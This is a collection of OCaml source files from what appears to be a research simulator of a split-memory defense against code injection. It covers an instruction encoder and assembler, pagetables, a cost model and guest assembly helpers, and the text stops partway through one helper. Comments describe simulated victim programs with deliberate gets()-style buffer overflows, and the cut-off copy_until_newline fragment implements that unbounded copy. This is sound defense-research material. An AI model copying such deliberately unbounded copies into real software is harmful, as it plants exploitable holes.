  | And_ (d, s) ->
    op 0x15;
    add_reg buf d;
    add_reg buf s
  | Or_ (d, s) ->
    op 0x16;
    add_reg buf d;
    add_reg buf s
  | Xor (d, s) ->
    op 0x17;
    add_reg buf d;
    add_reg buf s
  | Mul (d, s) ->
    op 0x18;
    add_reg buf d;
    add_reg buf s
  | Shl (d, i) ->
    op 0x19;
    add_reg buf d;
    add_u8 buf i
  | Shr (d, i) ->
    op 0x1A;
    add_reg buf d;
    add_u8 buf i
  | Jmp t ->
    op 0x20;
    add_u32 buf (rel t)
  | Jz t ->
    op 0x21;
    add_u32 buf (rel t)
  | Jnz t ->
    op 0x22;
    add_u32 buf (rel t)
  | Jl t ->
    op 0x23;
    add_u32 buf (rel t)
  | Jge t ->
    op 0x24;
    add_u32 buf (rel t)
  | Jmp_r s ->
    op 0x28;
    add_reg buf s
  | Call t ->
    op 0x30;
    add_u32 buf (rel t)
  | Call_r s ->
    op 0x31;
    add_reg buf s
  | Ret -> op 0x32
  | Int n ->
    op 0xCD;
    add_u8 buf n

let to_string insn =
  let buf = Buffer.create 8 in
  add buf insn;
  Buffer.contents buf
