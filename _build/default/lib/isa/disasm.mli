(** Disassembly helpers, used by the forensics response mode to render
    captured shellcode. *)

val insn_at : string -> int -> (Insn.t, Decode.error) result
(** Decode the instruction starting at a byte offset. *)

val region :
  ?max_insns:int -> string -> pos:int -> len:int -> (int * (Insn.t, Decode.error) result) list
(** Linear-sweep disassembly of a byte region; undecodable bytes advance by
    one byte and are reported as errors. Offsets are relative to the string. *)

val to_string : ?base:int -> ?max_insns:int -> string -> pos:int -> len:int -> string
(** Render a region as one line per instruction, addresses biased by [base]. *)

val hex_dump : ?width:int -> string -> pos:int -> len:int -> string
(** Classic hex dump of a region (used for shellcode logs). *)
