(** Instruction decoding, byte-at-a-time through a fetch callback. *)

type error =
  | Bad_opcode of int  (** undefined opcode — an invalid-opcode fault *)
  | Bad_register of int  (** register field outside 0..7 *)

val decode : fetch:(int -> int) -> int -> (Insn.t, error) result
(** [decode ~fetch pc] decodes the instruction at address [pc]. Each byte is
    obtained via [fetch addr]; [fetch] may raise (e.g. a simulated page
    fault) and the exception propagates, modelling a fault during the
    instruction fetch. Relative targets are sign-extended. *)

val of_string : string -> int -> (Insn.t, error) result
(** Decode from a raw byte string at the given offset; out-of-range bytes
    read as zero. *)

val sign32 : int -> int
(** Interpret a 32-bit value as a signed two's-complement integer. *)
