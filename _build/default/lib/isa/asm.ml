type item =
  | I of Insn.t
  | L of string
  | Bytes of string
  | Word32 of int
  | Words of int list
  | Space of int
  | Align of int

type program = item list

exception Duplicate_label of string
exception Undefined_label of string

let item_size ~at = function
  | I insn -> Insn.size insn
  | L _ -> 0
  | Bytes s -> String.length s
  | Word32 _ -> 4
  | Words ws -> 4 * List.length ws
  | Space n -> n
  | Align a ->
    let r = at mod a in
    if r = 0 then 0 else a - r

let layout ~origin items =
  let labels = Hashtbl.create 16 in
  let addr = ref origin in
  let place item =
    (match item with
    | L l ->
      if Hashtbl.mem labels l then raise (Duplicate_label l);
      Hashtbl.add labels l !addr
    | I _ | Bytes _ | Word32 _ | Words _ | Space _ | Align _ -> ());
    addr := !addr + item_size ~at:!addr item
  in
  List.iter place items;
  labels

let resolve_target labels ~next = function
  | Insn.Rel _ as t -> t
  | Insn.Lbl l -> (
    match Hashtbl.find_opt labels l with
    | Some dest -> Insn.Rel (dest - next)
    | None -> raise (Undefined_label l))

let resolve labels ~addr insn =
  let next = addr + Insn.size insn in
  let t = resolve_target labels ~next in
  match (insn : Insn.t) with
  | Jmp x -> Insn.Jmp (t x)
  | Jz x -> Insn.Jz (t x)
  | Jnz x -> Insn.Jnz (t x)
  | Jl x -> Insn.Jl (t x)
  | Jge x -> Insn.Jge (t x)
  | Call x -> Insn.Call (t x)
  | Nop | Hlt | Mov_ri _ | Mov_rr _ | Load _ | Store _ | Loadb _ | Storeb _
  | Push _ | Pop _ | Lea _ | Add _ | Sub _ | Add_ri _ | Cmp _ | Cmp_ri _
  | And_ _ | Or_ _ | Xor _ | Mul _ | Shl _ | Shr _ | Jmp_r _ | Call_r _ | Ret
  | Int _ ->
    insn

type assembled = { code : string; labels : (string, int) Hashtbl.t; origin : int }

let assemble ?(origin = 0) items =
  let labels = layout ~origin items in
  let buf = Buffer.create 256 in
  let addr = ref origin in
  let emit item =
    let size = item_size ~at:!addr item in
    (match item with
    | I insn -> Encode.add buf (resolve labels ~addr:!addr insn)
    | L _ -> ()
    | Bytes s -> Buffer.add_string buf s
    | Word32 w ->
      let w = Encode.mask32 w in
      Buffer.add_char buf (Char.chr (w land 0xFF));
      Buffer.add_char buf (Char.chr ((w lsr 8) land 0xFF));
      Buffer.add_char buf (Char.chr ((w lsr 16) land 0xFF));
      Buffer.add_char buf (Char.chr ((w lsr 24) land 0xFF))
    | Words ws -> List.iter (fun w ->
        let w = Encode.mask32 w in
        Buffer.add_char buf (Char.chr (w land 0xFF));
        Buffer.add_char buf (Char.chr ((w lsr 8) land 0xFF));
        Buffer.add_char buf (Char.chr ((w lsr 16) land 0xFF));
        Buffer.add_char buf (Char.chr ((w lsr 24) land 0xFF))) ws
    | Space n -> Buffer.add_string buf (String.make n '\000')
    | Align _ -> Buffer.add_string buf (String.make size '\000'));
    addr := !addr + size
  in
  List.iter emit items;
  { code = Buffer.contents buf; labels; origin }

let label asm l =
  match Hashtbl.find_opt asm.labels l with
  | Some a -> a
  | None -> raise (Undefined_label l)
