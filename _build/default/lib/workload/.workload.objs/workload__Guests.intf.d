lib/workload/guests.mli: Kernel
