lib/workload/harness.ml: Defense Hw Kernel List
