lib/workload/figures.mli: Defense Harness Kernel
