lib/workload/harness.mli: Defense Kernel
