lib/workload/guests.ml: Fmt Guest Isa Kernel
