lib/workload/figures.ml: Defense Float Fmt Guests Harness Kernel List Split_memory
