(* FNV-1a style hash (folded into OCaml's 63-bit int range), stand-in for
   the cryptographic binary signatures of DigSig/verified-exec (paper §4.3):
   enough to model "a tampered or unsigned image is rejected by the
   loader". *)

let mask62 = 0x3FFFFFFFFFFFFFFF
let fnv_offset = 0xbf29ce484222325 (* FNV offset basis, truncated to 63-bit int *)
let fnv_prime = 0x100000001b3

let hash_string ?(seed = fnv_offset) s =
  let h = ref seed in
  String.iter
    (fun c ->
      h := !h lxor Char.code c;
      h := !h * fnv_prime land mask62)
    s;
  !h

let sign parts = List.fold_left (fun seed part -> hash_string ~seed part) fnv_offset parts
let verify parts signature = sign parts = signature
