(** Kernel pagetable entries.

    On top of the hardware-visible bits ({!to_hw}), the kernel keeps the
    split-memory bookkeeping the paper adds to Linux PTEs: the "this page is
    split" marker with the two physical frames (code copy / data copy), the
    observe-mode lock, and the COW bit. The [frame] field is what the
    hardware page walk sees — Algorithm 1 works by pointing it at one copy
    or the other while the PTE is temporarily unrestricted. *)

type kind = Code | Rodata | Data | Bss | Heap | Stack | Mixed | Lib | Mmap

val kind_name : kind -> string

type split = {
  code_frame : int;  (** pristine copy, target of instruction fetches *)
  mutable data_frame : int;  (** live copy, target of data accesses *)
  mutable locked_to_data : bool;
      (** observe mode: splitting disabled, data copy is the sole mapping *)
}

type t = {
  vpn : int;
  kind : kind;
  mutable frame : int;  (** the frame the hardware currently sees *)
  mutable present : bool;
  mutable writable : bool;
  mutable user : bool;  (** false = supervisor-restricted (forces TLB-miss faults) *)
  mutable nx : bool;
  mutable cow : bool;
  mutable orig_writable : bool;  (** writability of the region, pre-COW *)
  mutable split : split option;
}

val make : vpn:int -> kind:kind -> frame:int -> writable:bool -> t
val to_hw : t -> Hw.Mmu.hw_pte
val is_split : t -> bool
val restrict : t -> unit
(** Set supervisor-only — user accesses fault on the next TLB miss. *)

val unrestrict : t -> unit
val data_frame : t -> int
(** The frame data accesses should reach (the split data copy if split). *)

val code_frame : t -> int
(** The frame fetches should reach: the code copy, unless observe mode
    locked the page to its data copy. *)

val pp : Format.formatter -> t -> unit
