lib/kernel/pipe.ml: Buffer String
