lib/kernel/protection.ml: Aspace Event_log Frame_alloc Hw Proc Pte
