lib/kernel/event_log.ml: Char Fmt List String
