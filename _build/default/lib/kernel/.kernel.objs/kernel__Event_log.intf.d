lib/kernel/event_log.mli: Format
