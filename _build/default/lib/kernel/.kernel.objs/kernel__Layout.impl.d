lib/kernel/layout.ml:
