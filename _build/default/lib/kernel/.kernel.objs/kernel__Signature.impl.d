lib/kernel/signature.ml: Char List String
