lib/kernel/pte.mli: Format Hw
