lib/kernel/signature.mli:
