lib/kernel/proc.ml: Array Aspace Fmt Hashtbl Hw List Pipe
