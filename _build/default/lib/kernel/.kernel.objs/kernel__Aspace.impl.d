lib/kernel/aspace.ml: Bytes Hashtbl Layout List Option Pte String
