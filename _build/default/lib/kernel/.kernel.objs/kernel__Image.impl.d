lib/kernel/image.ml: Bytes Char Hashtbl Isa Layout List Signature String
