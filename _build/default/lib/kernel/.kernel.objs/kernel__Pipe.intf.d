lib/kernel/pipe.mli:
