lib/kernel/proc.mli: Aspace Format Hashtbl Hw Pipe
