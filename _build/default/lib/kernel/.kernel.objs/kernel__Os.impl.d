lib/kernel/os.ml: Array Aspace Buffer Bytes Char Event_log Fmt Frame_alloc Hashtbl Hw Image Isa Layout List Option Pipe Proc Protection Pte Queue Random Signature String
