lib/kernel/hw_pagetable.mli: Frame_alloc Hw
