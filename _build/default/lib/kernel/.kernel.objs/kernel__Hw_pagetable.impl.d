lib/kernel/hw_pagetable.ml: Frame_alloc Hw
