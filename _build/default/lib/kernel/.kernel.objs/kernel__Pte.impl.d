lib/kernel/pte.ml: Fmt Hw
