lib/kernel/image.mli: Hashtbl Isa
