lib/kernel/layout.mli:
