lib/kernel/protection.mli: Aspace Event_log Frame_alloc Hw Proc Pte
