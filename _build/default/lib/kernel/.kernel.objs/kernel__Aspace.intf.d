lib/kernel/aspace.mli: Hashtbl Hw Pte
