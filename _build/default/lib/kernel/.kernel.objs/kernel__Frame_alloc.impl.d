lib/kernel/frame_alloc.ml: Array Hw List Stack
