lib/kernel/os.mli: Aspace Event_log Frame_alloc Hw Image Isa Proc Protection Pte
