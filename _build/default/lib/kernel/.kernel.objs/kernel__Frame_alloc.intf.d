lib/kernel/frame_alloc.mli: Hw
