(* Packed two-level x86-style pagetables stored in simulated physical
   memory — the fidelity study behind the object-model pagetables the rest
   of the kernel uses. It demonstrates that everything the split-memory
   patch needs fits in real 32-bit pagetable structures:

   - the split marker lives in an available PTE bit (the paper: "a
     previously unused bit in the pagetable entry is used to signify that
     the page is being split", §5.1);
   - the partner frame needs no storage: the two copies are allocated
     side-by-side (even frame = code copy, odd = data copy) and found by
     frame arithmetic;
   - restricting/unrestricting a page and flipping it between its copies
     are single 32-bit stores, exactly as in the Linux patch.

   Entry format (both PDE and PTE, little-endian 32-bit):
     bit 0  present        bit 1  writable      bit 2  user
     bit 8  nx (simulated PAE-style)            bit 9  split marker
     bit 10 data-selected (split page currently pointing at its data copy)
     bits 12..31 frame number *)

let p_present = 0x001
let p_writable = 0x002
let p_user = 0x004
let p_nx = 0x100
let p_split = 0x200
let p_data_sel = 0x400

let entries_per_table = 1024

type t = { phys : Hw.Phys.t; alloc : Frame_alloc.t; root : int }

let create phys alloc = { phys; alloc; root = Frame_alloc.alloc alloc }
let root t = t.root

let encode ~frame ~writable ~user ~nx ~split ~data_sel =
  p_present
  lor (if writable then p_writable else 0)
  lor (if user then p_user else 0)
  lor (if nx then p_nx else 0)
  lor (if split then p_split else 0)
  lor (if data_sel then p_data_sel else 0)
  lor (frame lsl 12)

let frame_of e = e lsr 12
let present e = e land p_present <> 0
let writable e = e land p_writable <> 0
let user e = e land p_user <> 0
let nx e = e land p_nx <> 0
let split e = e land p_split <> 0
let data_selected e = e land p_data_sel <> 0

let dir_index vpn = vpn lsr 10
let table_index vpn = vpn land (entries_per_table - 1)

let read_entry t ~frame ~idx = Hw.Phys.read32 t.phys ~frame ~off:(idx * 4)
let write_entry t ~frame ~idx v = Hw.Phys.write32 t.phys ~frame ~off:(idx * 4) v

let table_frame t vpn ~create_missing =
  let pde = read_entry t ~frame:t.root ~idx:(dir_index vpn) in
  if present pde then Some (frame_of pde)
  else if not create_missing then None
  else begin
    let tf = Frame_alloc.alloc t.alloc in
    write_entry t ~frame:t.root ~idx:(dir_index vpn)
      (encode ~frame:tf ~writable:true ~user:true ~nx:false ~split:false ~data_sel:false);
    Some tf
  end

let entry t vpn =
  match table_frame t vpn ~create_missing:false with
  | None -> None
  | Some tf ->
    let e = read_entry t ~frame:tf ~idx:(table_index vpn) in
    if present e then Some e else None

let set_entry t vpn e =
  match table_frame t vpn ~create_missing:true with
  | None -> assert false
  | Some tf -> write_entry t ~frame:tf ~idx:(table_index vpn) e

let map t ~vpn ~frame ~writable ~user ?(nx = false) () =
  set_entry t vpn (encode ~frame ~writable ~user ~nx ~split:false ~data_sel:false)

let unmap t vpn =
  match table_frame t vpn ~create_missing:false with
  | None -> ()
  | Some tf -> write_entry t ~frame:tf ~idx:(table_index vpn) 0

let update t vpn f =
  match entry t vpn with None -> () | Some e -> set_entry t vpn (f e)

(* Split the page per the paper's recipe: allocate a side-by-side pair,
   copy the contents into both, mark the entry split + supervisor, and
   point it at the code (even) copy. Returns (code_frame, data_frame). *)
let split_page t vpn =
  match entry t vpn with
  | None -> invalid_arg "Hw_pagetable.split_page: not mapped"
  | Some e when split e -> (frame_of e land lnot 1, frame_of e lor 1)
  | Some e ->
    let code, data = Frame_alloc.alloc_pair t.alloc in
    Hw.Phys.copy_frame t.phys ~src:(frame_of e) ~dst:code;
    Hw.Phys.copy_frame t.phys ~src:(frame_of e) ~dst:data;
    Frame_alloc.decref t.alloc (frame_of e);
    set_entry t vpn
      (encode ~frame:code ~writable:(writable e) ~user:false ~nx:(nx e) ~split:true
         ~data_sel:false);
    (code, data)

(* Algorithm-1 primitives as single packed stores. *)
let point_at_code t vpn =
  update t vpn (fun e -> encode ~frame:(frame_of e land lnot 1) ~writable:(writable e)
    ~user:(user e) ~nx:(nx e) ~split:(split e) ~data_sel:false)

let point_at_data t vpn =
  update t vpn (fun e -> encode ~frame:(frame_of e lor 1) ~writable:(writable e)
    ~user:(user e) ~nx:(nx e) ~split:(split e) ~data_sel:true)

let restrict t vpn = update t vpn (fun e -> e land lnot p_user)
let unrestrict t vpn = update t vpn (fun e -> e lor p_user)

(* What the hardware page walker sees: two dependent reads from simulated
   physical memory, then the permission bits. *)
let walk t vpn =
  match entry t vpn with
  | None -> None
  | Some e ->
    Some
      {
        Hw.Mmu.frame = frame_of e;
        present = true;
        writable = writable e;
        user = user e;
        nx = nx e;
      }

let free t =
  for idx = 0 to entries_per_table - 1 do
    let pde = read_entry t ~frame:t.root ~idx in
    if present pde then begin
      let tf = frame_of pde in
      for pidx = 0 to entries_per_table - 1 do
        let e = read_entry t ~frame:tf ~idx:pidx in
        if present e then
          if split e then begin
            Frame_alloc.decref t.alloc (frame_of e land lnot 1);
            Frame_alloc.decref t.alloc (frame_of e lor 1)
          end
          else Frame_alloc.decref t.alloc (frame_of e)
      done;
      Frame_alloc.decref t.alloc tf
    end
  done;
  Frame_alloc.decref t.alloc t.root
