(** Bounded byte FIFO: the kernel's pipe object, also used for process
    consoles (the "network" between exploit drivers and victim servers). *)

type t

val create : ?capacity:int -> name:string -> unit -> t
val name : t -> string
val level : t -> int
(** Bytes currently buffered. *)

val is_empty : t -> bool
val space : t -> int
val has_writers : t -> bool
val has_readers : t -> bool
val bytes_written : t -> int
(** Total bytes ever accepted (pipe-throughput metric). *)

val add_reader : t -> unit
val add_writer : t -> unit
val close_reader : t -> unit
val close_writer : t -> unit

val write : t -> string -> int
(** Append up to the available space; returns the number of bytes taken. *)

val read : t -> max:int -> string
(** Consume up to [max] buffered bytes (possibly [""]). *)

val drain : t -> string
(** Consume everything buffered. *)
