(** Packed two-level x86-style pagetables in simulated physical memory.

    The kernel proper uses object-model PTEs ({!Pte}); this module is the
    fidelity study showing the split-memory patch fits real 32-bit x86
    structures: the split marker is an available PTE bit (§5.1), the two
    copies are side-by-side physical frames found by arithmetic, and every
    Algorithm-1 PTE manipulation is a single 32-bit store. The
    [test/test_hw_pagetable.ml] suite drives the MMU's hardware walker
    through these tables and replays the full desynchronization sequence
    against them. *)

type t

val create : Hw.Phys.t -> Frame_alloc.t -> t
(** Allocates the page-directory frame. *)

val root : t -> int
(** The directory's physical frame — what CR3 would hold. *)

val map : t -> vpn:int -> frame:int -> writable:bool -> user:bool -> ?nx:bool -> unit -> unit
val unmap : t -> int -> unit
val entry : t -> int -> int option
(** Raw 32-bit PTE, if present. *)

val split_page : t -> int -> int * int
(** The paper's split recipe on packed entries: side-by-side pair
    allocation, split bit, supervisor restriction. Returns
    [(code_frame, data_frame)]; idempotent. *)

val point_at_code : t -> int -> unit
val point_at_data : t -> int -> unit
val restrict : t -> int -> unit
val unrestrict : t -> int -> unit

val walk : t -> int -> Hw.Mmu.hw_pte option
(** The hardware walker view (feed to {!Hw.Mmu.reload_cr3}). *)

val free : t -> unit
(** Release every mapped frame (split pairs via frame arithmetic), the
    page tables, and the directory. *)

(** Entry-format accessors (exposed for tests). *)

val encode :
  frame:int -> writable:bool -> user:bool -> nx:bool -> split:bool -> data_sel:bool -> int

val frame_of : int -> int
val present : int -> bool
val writable : int -> bool
val user : int -> bool
val nx : int -> bool
val split : int -> bool
val data_selected : int -> bool
