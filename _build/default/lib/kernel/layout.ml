(* Canonical virtual-memory layout for guest processes, mirroring a classic
   32-bit Linux process image. *)

let code_base = 0x08048000
let rodata_base = 0x08050000
let data_base = 0x08060000
let bss_base = 0x08070000
let heap_base = 0x09000000
let heap_limit = 0x0A000000
let mixed_base = 0x080B0000
let lib_base = 0x40000000
let mmap_base = 0x50000000
let mmap_limit = 0x60000000
let stack_top = 0xBFFFE000
let stack_max_bytes = 64 * 4096
let initial_esp = stack_top - 16
