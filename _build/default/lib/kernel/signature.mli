(** Binary signature stand-in (models DigSig / NetBSD verified-exec, which
    the paper defers library validation to). Not cryptographically secure —
    it exists so the loader's accept/reject logic is real and testable. *)

val hash_string : ?seed:int -> string -> int
val sign : string list -> int
val verify : string list -> int -> bool
