(** Canonical virtual-memory layout for guest processes — a classic 32-bit
    Linux image (code at 0x08048000, stack below 0xC0000000). Segment spans
    are pairwise disjoint (checked by the [units] test suite); several
    bases are chosen so common buffer addresses contain no 0x0A byte, the
    terminator of the victims' gets()-style overflow bugs. *)

val code_base : int
val rodata_base : int
val data_base : int
val bss_base : int
val heap_base : int
val heap_limit : int
val mixed_base : int
val lib_base : int
val mmap_base : int
val mmap_limit : int
val stack_top : int
val stack_max_bytes : int
val initial_esp : int
