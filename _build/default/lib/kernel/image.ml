type seg_kind = Code | Rodata | Data | Mixed | Lib

let seg_kind_name = function
  | Code -> "code"
  | Rodata -> "rodata"
  | Data -> "data"
  | Mixed -> "mixed"
  | Lib -> "lib"

type segment = { base : int; bytes : string; kind : seg_kind; writable : bool }

type t = {
  name : string;
  segments : segment list;
  entry : int;
  bss_size : int;
  signature : int;
  labels : (string, int) Hashtbl.t;
}

exception Unknown_label of string

let signable img =
  img.name
  :: string_of_int img.entry
  :: string_of_int img.bss_size
  :: List.concat_map
       (fun s -> [ string_of_int s.base; s.bytes; seg_kind_name s.kind ])
       img.segments

let seal img = { img with signature = Signature.sign (signable img) }
let verify img = Signature.verify (signable img) img.signature

let tamper img =
  match img.segments with
  | [] -> img
  | seg :: rest ->
    let bytes = Bytes.of_string seg.bytes in
    if Bytes.length bytes > 0 then
      Bytes.set bytes 0 (Char.chr (Char.code (Bytes.get bytes 0) lxor 0xFF));
    { img with segments = { seg with bytes = Bytes.to_string bytes } :: rest }

type builder = lbl:(string -> int) -> Isa.Asm.program

let no_program : builder = fun ~lbl:_ -> []

let specials =
  [
    ("bss", Layout.bss_base);
    ("heap", Layout.heap_base);
    ("stack_top", Layout.stack_top);
    ("initial_esp", Layout.initial_esp);
  ]

(* Two-pass fixpoint over all segments. Instruction and data sizes do not
   depend on immediate values, so assembling once with every unknown label
   resolved to 0 yields the final layout; the second pass re-assembles with
   the real addresses and must produce identically sized segments. *)
let build ~name ?(rodata = []) ?(lib = []) ?(bss_size = 0) ?(data = no_program)
    ?(mixed = no_program) ~code ~entry () =
  let assemble_all resolver =
    [
      (Isa.Asm.assemble ~origin:Layout.code_base (code ~lbl:resolver), Code, false);
      (Isa.Asm.assemble ~origin:Layout.rodata_base rodata, Rodata, false);
      (Isa.Asm.assemble ~origin:Layout.lib_base lib, Lib, false);
      (Isa.Asm.assemble ~origin:Layout.data_base (data ~lbl:resolver), Data, true);
      (Isa.Asm.assemble ~origin:Layout.mixed_base (mixed ~lbl:resolver), Mixed, true);
    ]
  in
  let resolver_of assembled fallback name =
    match List.assoc_opt name specials with
    | Some a -> a
    | None -> (
      let found =
        List.find_map
          (fun ((a : Isa.Asm.assembled), _, _) -> Hashtbl.find_opt a.labels name)
          assembled
      in
      match found with Some a -> a | None -> fallback name)
  in
  let pass1 = assemble_all (fun _ -> 0) in
  let resolve = resolver_of pass1 (fun l -> raise (Unknown_label l)) in
  let pass2 = assemble_all resolve in
  List.iter2
    (fun (a1, _, _) (a2, _, _) ->
      assert (String.length a1.Isa.Asm.code = String.length a2.Isa.Asm.code))
    pass1 pass2;
  let segments =
    List.filter_map
      (fun ((a : Isa.Asm.assembled), kind, writable) ->
        if String.length a.code = 0 then None
        else Some { base = a.origin; bytes = a.code; kind; writable })
      pass2
  in
  let labels = Hashtbl.create 64 in
  List.iter
    (fun ((a : Isa.Asm.assembled), _, _) ->
      Hashtbl.iter
        (fun l addr ->
          if Hashtbl.mem labels l then raise (Isa.Asm.Duplicate_label l);
          Hashtbl.add labels l addr)
        a.labels)
    pass2;
  List.iter (fun (l, a) -> Hashtbl.replace labels l a) specials;
  seal { name; segments; entry = resolve entry; bss_size; signature = 0; labels }

let find_segment img kind = List.find_opt (fun s -> s.kind = kind) img.segments

let label img l =
  match Hashtbl.find_opt img.labels l with
  | Some a -> a
  | None -> raise (Unknown_label l)
