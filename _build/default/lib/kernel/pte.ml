type kind = Code | Rodata | Data | Bss | Heap | Stack | Mixed | Lib | Mmap

let kind_name = function
  | Code -> "code"
  | Rodata -> "rodata"
  | Data -> "data"
  | Bss -> "bss"
  | Heap -> "heap"
  | Stack -> "stack"
  | Mixed -> "mixed"
  | Lib -> "lib"
  | Mmap -> "mmap"

type split = {
  code_frame : int;
  mutable data_frame : int;
  mutable locked_to_data : bool;
}

type t = {
  vpn : int;
  kind : kind;
  mutable frame : int;
  mutable present : bool;
  mutable writable : bool;
  mutable user : bool;
  mutable nx : bool;
  mutable cow : bool;
  mutable orig_writable : bool;
  mutable split : split option;
}

let make ~vpn ~kind ~frame ~writable =
  {
    vpn;
    kind;
    frame;
    present = true;
    writable;
    user = true;
    nx = false;
    cow = false;
    orig_writable = writable;
    split = None;
  }

let to_hw t : Hw.Mmu.hw_pte =
  { frame = t.frame; present = t.present; writable = t.writable; user = t.user; nx = t.nx }

let is_split t = t.split <> None

let restrict t = t.user <- false
let unrestrict t = t.user <- true

let data_frame t = match t.split with Some s -> s.data_frame | None -> t.frame

let code_frame t =
  match t.split with
  | Some s -> if s.locked_to_data then s.data_frame else s.code_frame
  | None -> t.frame

let pp ppf t =
  Fmt.pf ppf "vpn=0x%x %s frame=%d%s%s%s%s%s" t.vpn (kind_name t.kind) t.frame
    (if t.user then "" else " supervisor")
    (if t.writable then " rw" else " ro")
    (if t.nx then " nx" else "")
    (if t.cow then " cow" else "")
    (match t.split with
    | None -> ""
    | Some s ->
      Fmt.str " split(code=%d,data=%d%s)" s.code_frame s.data_frame
        (if s.locked_to_data then ",locked" else ""))
