lib/hw/cost.ml: Fmt
