lib/hw/cpu.ml: Array Fmt Isa Mmu
