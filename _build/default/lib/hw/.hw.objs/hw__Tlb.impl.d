lib/hw/tlb.ml: Fmt Hashtbl Queue
