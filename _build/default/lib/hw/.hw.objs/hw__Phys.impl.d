lib/hw/phys.ml: Array Bytes Char Fmt String
