lib/hw/cost.mli: Format
