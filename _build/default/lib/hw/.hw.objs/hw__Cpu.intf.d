lib/hw/cpu.mli: Format Isa Mmu
