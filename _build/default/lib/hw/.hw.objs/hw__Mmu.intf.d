lib/hw/mmu.mli: Cache Cost Format Phys Tlb
