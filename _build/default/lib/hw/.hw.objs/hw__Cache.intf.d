lib/hw/cache.mli:
