lib/hw/phys.mli:
