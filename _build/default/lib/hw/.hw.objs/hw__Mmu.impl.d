lib/hw/mmu.ml: Cache Cost Fmt Isa Phys Tlb
