(** Cycle-accounting model.

    The paper reports relative slowdowns whose sources are kernel traps and
    TLB traffic; the simulator charges those events against a single cycle
    counter. Constants approximate the relative magnitudes measured on the
    paper's Pentium III testbed: a trap into the kernel is tens of times the
    cost of an instruction, a split-memory page-fault service is comparable
    to a trap, the single-step ITLB load costs a second interrupt, and a
    context switch is the most expensive event (it also flushes both TLBs,
    whose refill cost is charged where the misses occur). *)

type params = {
  insn : int;  (** base cost per retired instruction *)
  tlb_walk : int;  (** hardware pagetable walk on a TLB miss *)
  trap : int;  (** kernel trap entry + exit (page fault, #UD, #DB) *)
  split_pf_service : int;  (** Algorithm 1 software service *)
  single_step_service : int;  (** Algorithm 2: extra debug interrupt *)
  syscall : int;  (** syscall dispatch *)
  ctx_switch : int;  (** scheduler context switch (TLB flush separate) *)
  fault_delivery : int;  (** signal delivery / process teardown *)
  io_byte : int;  (** wire/DMA cycles per byte written through a pipe *)
  timer_tick_cycles : int;  (** timer-interrupt period; 0 disables ticks *)
  daemon_period : int;
      (** every Nth tick a background daemon runs: a real context switch,
          so both TLBs are flushed — the background activity a loaded
          Linux box always has *)
  fork_base : int;  (** fixed cost of fork (task structures) *)
  fork_per_page : int;  (** pagetable-copy cost per mapped page *)
  soft_tlb_fill : int;
      (** software-managed TLB (SPARC-style, paper §4.7): cost of the
          lightweight TLB-miss trap plus the fill instruction — far below a
          full page-fault trap *)
  icache_miss : int;  (** refill from L2 (cache model enabled only) *)
  dcache_miss : int;
  smc_penalty : int;
      (** store hitting an icache line: coherency invalidation + pipeline
          flush — the cost behind the paper's §4.2.4 observation *)
}

val default_params : params

type t = {
  params : params;
  mutable cycles : int;
  mutable insns : int;
  mutable traps : int;
  mutable split_faults : int;
  mutable single_steps : int;
  mutable syscalls : int;
  mutable ctx_switches : int;
}

val create : ?params:params -> unit -> t
val charge : t -> int -> unit
val charge_insn : t -> unit
val charge_walk : t -> unit
val charge_trap : t -> unit
val charge_split_pf : t -> unit
val charge_single_step : t -> unit
val charge_syscall : t -> unit
val charge_ctx_switch : t -> unit
val pp : Format.formatter -> t -> unit
