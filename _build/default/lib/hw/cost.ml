type params = {
  insn : int;
  tlb_walk : int;
  trap : int;
  split_pf_service : int;
  single_step_service : int;
  syscall : int;
  ctx_switch : int;
  fault_delivery : int;
  io_byte : int;
  timer_tick_cycles : int;
  daemon_period : int;
  fork_base : int;
  fork_per_page : int;
  soft_tlb_fill : int;
  icache_miss : int;
  dcache_miss : int;
  smc_penalty : int;
}

let default_params =
  {
    insn = 1;
    tlb_walk = 20;
    trap = 380;
    split_pf_service = 240;
    single_step_service = 330;
    syscall = 280;
    ctx_switch = 520;
    fault_delivery = 600;
    io_byte = 3;
    timer_tick_cycles = 40_000;
    daemon_period = 4;
    fork_base = 8000;
    fork_per_page = 200;
    soft_tlb_fill = 90;
    icache_miss = 8;
    dcache_miss = 8;
    smc_penalty = 420;
  }

type t = {
  params : params;
  mutable cycles : int;
  mutable insns : int;
  mutable traps : int;
  mutable split_faults : int;
  mutable single_steps : int;
  mutable syscalls : int;
  mutable ctx_switches : int;
}

let create ?(params = default_params) () =
  {
    params;
    cycles = 0;
    insns = 0;
    traps = 0;
    split_faults = 0;
    single_steps = 0;
    syscalls = 0;
    ctx_switches = 0;
  }

let charge t n = t.cycles <- t.cycles + n
let charge_insn t =
  t.cycles <- t.cycles + t.params.insn;
  t.insns <- t.insns + 1

let charge_walk t = charge t t.params.tlb_walk

let charge_trap t =
  t.traps <- t.traps + 1;
  charge t t.params.trap

let charge_split_pf t =
  t.split_faults <- t.split_faults + 1;
  charge t t.params.split_pf_service

let charge_single_step t =
  t.single_steps <- t.single_steps + 1;
  charge t t.params.single_step_service

let charge_syscall t =
  t.syscalls <- t.syscalls + 1;
  charge t t.params.syscall

let charge_ctx_switch t =
  t.ctx_switches <- t.ctx_switches + 1;
  charge t t.params.ctx_switch

let pp ppf t =
  Fmt.pf ppf
    "cycles=%d insns=%d traps=%d split_faults=%d single_steps=%d syscalls=%d ctxsw=%d"
    t.cycles t.insns t.traps t.split_faults t.single_steps t.syscalls t.ctx_switches
