open Isa.Asm

(* Reusable guest-assembly fragments for victims and benchmark workloads.
   Calling convention used throughout: arguments pushed on the stack
   (rightmost first), eax = return value, syscalls per Linux int 0x80. *)

let sys_exit n = [ I (Mov_ri (EAX, 1)); I (Mov_ri (EBX, n)); I (Int 0x80) ]

let sys_read_imm ~buf ~len =
  [
    I (Mov_ri (EAX, 3));
    I (Mov_ri (EBX, 0));
    I (Mov_ri (ECX, buf));
    I (Mov_ri (EDX, len));
    I (Int 0x80);
  ]

let sys_write_imm ?(fd = 1) ~buf ~len () =
  [
    I (Mov_ri (EAX, 4));
    I (Mov_ri (EBX, fd));
    I (Mov_ri (ECX, buf));
    I (Mov_ri (EDX, len));
    I (Int 0x80);
  ]

let sys_getpid = [ I (Mov_ri (EAX, 20)); I (Int 0x80) ]
let sys_fork = [ I (Mov_ri (EAX, 2)); I (Int 0x80) ]
let sys_yield = [ I (Mov_ri (EAX, 158)); I (Int 0x80) ]

(* Unbounded copy from [esi] to [edi] until a newline — the gets()-style
   vulnerability shared by several victims. The newline is not copied. *)
let copy_until_newline ~tag =
  [
